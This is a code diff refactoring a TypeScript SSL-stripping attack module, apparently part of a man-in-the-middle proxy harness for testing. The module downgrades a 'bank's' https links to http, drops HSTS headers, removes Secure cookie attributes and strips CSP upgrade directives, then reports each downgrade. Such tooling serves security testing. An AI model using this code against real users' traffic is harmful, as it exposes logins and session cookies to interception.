@@ -1,10 +1,7 @@
-import type { IncomingHttpHeaders, OutgoingHttpHeaders } from 'node:http';
-
-import type { IContext } from 'http-mitm-proxy';
-
-import type { Attack, Scene } from './attack.ts';
-import { dropHeader } from '../interceptor/exchange-reader.ts';
-import { rewriteBody } from '../leash/rewrite-body.ts';
+import { dropHeader, headerValue } from '../leash/raw-headers.ts';
+import type { RawHeaders } from '../leash/raw-headers.ts';
+import type { NamedAttack, Situation } from './attack.ts';
+import type { Exchange } from './exchange.ts';
 
 /**
  * SSL stripping (Marlinspike, 2009; the threat of RFC 6797, section 2.3.1): the victim's requests in
@@ -12,20 +9,21 @@ import { rewriteBody } from '../leash/rewrite-body.ts';
  * taken out. TLS that comes all the same is passed on sealed. Cookies with a `__Host-` or `__Secure-`
  * name and bodies in a content coding that was not asked for are left as they are.
  */
-export const strip: Attack = {
+export const strip = {
+  word: 'strip',
+  meaning: 'keeps the victim on http',
   tls: 'tunnel',
   fetches: (logical) => (logical.endsWith(':80') ? logical.replace(/80$/, '443') : undefined),
-  request: (exchange, scene) => {
-    const headers = exchange.proxyToServerRequestOptions?.headers;
-    if (headers !== undefined && scene.fetched !== scene.logical) upgradeRequest(headers, scene);
+  request: (exchange, situation) => {
+    if (situation.fetched !== situation.logical) upgradeRequest(exchange.requestHeaders, situation);
   },
-  response: (exchange, scene) => {
-    if (scene.fetched !== scene.logical) downgradeResponse(exchange, scene);
+  response: (exchange, situation) => {
+    if (situation.fetched !== situation.logical) downgradeResponse(exchange, situation);
   },
-};
+} as const satisfies NamedAttack;
 
 /** The bank is to see a request as its own pages over TLS would make it, and to answer it in no coding. */
-function upgradeRequest(headers: OutgoingHttpHeaders, { logical }: Scene): void {
+function upgradeRequest(headers: RawHeaders, { logical }: Situation): void {
   const origin = new RegExp(`^http://${escaped(nameOf(logical))}(:80)?(?=/|$)`, 'i');
   for (const [name, value] of Object.entries(headers)) {
     const lower = name.toLowerCase();
@@ -36,23 +34,19 @@ function upgradeRequest(headers: OutgoingHttpHeaders, { logical }: Scene): void 
   }
 }
 
-function downgradeResponse(exchange: IContext, scene: Scene): void {
-  const response = exchange.serverToProxyResponse;
-  if (response === undefined) return;
-  const { headers } = response;
-  const before = Object.keys(headers).length;
-  dropHeader(headers, 'strict-transport-security');
-  const hsts = Object.keys(headers).length < before;
+function downgradeResponse(exchange: Exchange, { logical, report }: Situation): void {
+  const { method, target, status, responseHeaders: headers } = exchange;
+  const hsts = dropHeader(headers, 'strict-transport-security');
 
   let links = 0;
   const address = new RegExp(
-    String.raw`https:(\\?/\\?/)${escaped(nameOf(scene.logical))}(?::443)?(?!\.?[\w:-])`,
+    String.raw`https:(\\?/\\?/)${escaped(nameOf(logical))}(?::443)?(?!\.?[\w:-])`,
     'gi',
   );
   const downgrade = (text: string): string =>
     text.replace(address, (_found, slashes: string) => {
       links += 1;
-      return `http:${slashes}${nameOf(scene.logical)}`;
+      return `http:${slashes}${nameOf(logical)}`;
     });
   let cookies = 0;
   const unsecured = (line: string): string => {
@@ -68,23 +62,20 @@ function downgradeResponse(exchange: IContext, scene: Scene): void {
     else headers[name] = each(value, downgrade);
   }
 
-  const { method } = exchange.clientToProxyRequest;
-  const page = nameOf(scene.logical) + (exchange.proxyToServerRequestOptions?.path ?? '/');
-  const report = (): void => {
+  const page = nameOf(logical) + target;
+  const done = (): void => {
     const [asked, fetched] = [`http://${page}`, `https://${page}`];
-    scene.report({ type: 'tls-stripped', asked, fetched, links, cookies, hsts });
+    report({ type: 'tls-stripped', asked, fetched, links, cookies, hsts });
   };
-  if (method === 'HEAD' || !hasText(response.statusCode ?? 0, headers)) {
-    report();
+  if (method === 'HEAD' || !hasText(status, headers)) {
+    done();
     return;
   }
-  exchange.addResponseFilter(
-    rewriteBody((text) => {
-      const stripped = downgrade(text.replaceAll(POLICY, (meta) => meta.replaceAll(UPGRADES, '$1')));
-      report();
-      return stripped;
-    }, report),
-  );
+  exchange.rewriteResponseBody((text) => {
+    const stripped = downgrade(text.replaceAll(POLICY, (meta) => meta.replaceAll(UPGRADES, '$1')));
+    done();
+    return stripped;
+  }, done);
 }
 
 /** Attributes that a browser takes from an answer over TLS only (RFC 6265bis, section 5.7), where `Secure` counts whatever its value. */
@@ -99,22 +90,16 @@ const POLICY = /<meta\b[^<>]*http-equiv\s*=\s*["']?content-security-policy\b[^<>
 const TEXT = /^(?:text\/|application\/(?:javascript|json|xml|xhtml\+xml)\b)/i;
 
 /** Whether an answer has a body, and one in which addresses can be read. */
-function hasText(status: number, headers: IncomingHttpHeaders): boolean {
-  const coding = one(headers, 'content-encoding') ?? 'identity';
+function hasText(status: number, headers: RawHeaders): boolean {
+  const coding = headerValue(headers, 'content-encoding') ?? 'identity';
   const bodiless = status < 200 || status === 204 || status === 304;
-  return !bodiless && coding.toLowerCase() === 'identity' && TEXT.test(one(headers, 'content-type') ?? '');
+  return (
+    !bodiless && coding.toLowerCase() === 'identity' && TEXT.test(headerValue(headers, 'content-type') ?? '')
+  );
 }
 
-function one(headers: IncomingHttpHeaders, name: string): string | undefined {
-  const [, value] = Object.entries(headers).find(([key]) => key.toLowerCase() === name) ?? [];
-  return value?.toString();
-}
-
-function each(
-  value: string | string[] | undefined,
-  change: (line: string) => string,
-): string | string[] | undefined {
-  return typeof value === 'string' ? change(value) : value?.map(change);
+function each(value: string | string[], change: (line: string) => string): string | string[] {
+  return typeof value === 'string' ? change(value) : value.map(change);
 }
 
 function nameOf(logical: string): string {
